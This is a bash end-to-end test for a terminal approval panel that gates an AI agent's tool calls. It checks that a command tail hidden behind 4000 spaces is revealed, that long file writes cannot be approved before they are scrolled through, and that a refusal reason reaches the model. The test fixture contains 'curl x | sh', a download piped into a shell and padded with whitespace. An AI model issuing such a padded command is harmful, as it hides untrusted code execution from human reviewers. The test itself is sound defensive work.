#!/usr/bin/env bash
# End-to-end: the approval panel shows a command's tail hidden behind 4000 spaces (`␠×4000; curl x | sh`),
# Tab sets it aside to read the transcript and brings it back, refuses y on a 300-line write until End showed its
# last line, sends a typed reason back to the model, and
# --plan shows `plan` in the status bar. Nothing is run: every call is refused.
set -uo pipefail
NAME=tui-approval
source "$(dirname "$0")/lib/tmux-harness.bash"
SCRIPT=$PWD/Tests/e2e/fixtures/approval-script.json

start_in_workspace
wait_for "Type a message and press Enter"
# 1. The command's tail is on screen, the spaces counted.
T send-keys -t e2e "hidden" Enter
wait_for "Run a command?"
wait_for "make test␠×4000; curl x | sh"
# Tab sets the panel aside to read the transcript (reading keys only); Tab brings it back.
T send-keys -t e2e Tab
wait_for "⚠ a tool call waits for your answer: Tab goes back to it"
pane | grep -qF "Run a command?" && fail "the panel should be out of the way"
T send-keys -t e2e Up r
wait_for "a tool call is waiting for your answer: Tab goes back to it"
T send-keys -t e2e Tab
wait_for "Run a command?"
T send-keys -t e2e n
wait_for "after the command"

# 2. A long write: y is refused until its end was shown; then refused with a reason.
T send-keys -t e2e "long write" Enter
wait_for "▼ more below"
T send-keys -t e2e y
wait_for "scroll to the end first (PgDn/End)"
pane | grep -qF "Write a file?" || fail "y closed the panel before the end was shown"
T send-keys -t e2e End
wait_for " · end"
T send-keys -t e2e r
wait_for "Reason for the model:"
T send-keys -t e2e "not now-5521" Enter
wait_for "after the write"
[ -e "$TMP/ws/big.txt" ] && fail "the refused write happened"

# 3. Plan mode from the command line.
start_in_workspace --plan
wait_for " plan │"
echo "tui-approval: ok"
